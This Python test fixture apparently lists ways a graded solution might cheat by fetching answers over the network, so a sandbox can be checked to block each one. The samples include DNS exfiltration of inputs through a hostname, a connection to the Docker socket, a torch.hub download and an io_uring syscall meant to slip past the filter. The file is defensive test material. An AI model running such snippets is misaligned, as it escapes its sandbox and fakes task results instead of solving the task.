"""Asking somebody else for the answer."""

from tests.dishonest.attempt import in_call

ATTEMPTS = (
    in_call(
        "tcp",
        "Connects to a server on this machine.",
        "import socket\nreturn socket.create_connection(('127.0.0.1', 9), 1)",
    ),
    in_call(
        "udp",
        "Sends its inputs away in datagrams.",
        """
            import socket
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            return sender.sendto(b'q', ('127.0.0.1', 9))
        """,
    ),
    in_call(
        "dns",
        "Asks for a name that carries its inputs.",
        "import socket\nreturn socket.gethostbyname('q-1-2-3.example.org')",
    ),
    in_call(
        "http",
        "Asks a service for the answer.",
        "import urllib.request\nreturn urllib.request.urlopen('http://127.0.0.1:9/answer', timeout=1).read()",
    ),
    in_call(
        "unix_socket",
        "Connects to a service by its file.",
        "import socket\nreturn socket.socket(socket.AF_UNIX).connect('/run/docker.sock')",
    ),
    in_call(
        "abstract_socket",
        "Connects to a socket that has no file.",
        "import socket\nreturn socket.socket(socket.AF_UNIX).connect('\\0katze')",
    ),
    in_call(
        "netlink",
        "Asks the kernel about its network.",
        "import socket\nreturn socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    ),
    in_call(
        "torch_distributed",
        "Joins another process by torch's own network.",
        """
            import torch.distributed as d
            return d.init_process_group('gloo', init_method='tcp://127.0.0.1:29500', rank=0, world_size=1)
        """,
    ),
    in_call(
        "hub",
        "Lets torch download a model that has learned the lesson.",
        "return torch.hub.load('pytorch/vision', 'resnet18', trust_repo=True)",
    ),
    in_call(
        "io_uring",
        "Opens a socket behind the filter's back, through a ring of requests.",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.syscall(425, 8, ctypes.create_string_buffer(200)) < 0:\n    raise PermissionError(ctypes.get_errno())",
    ),
)
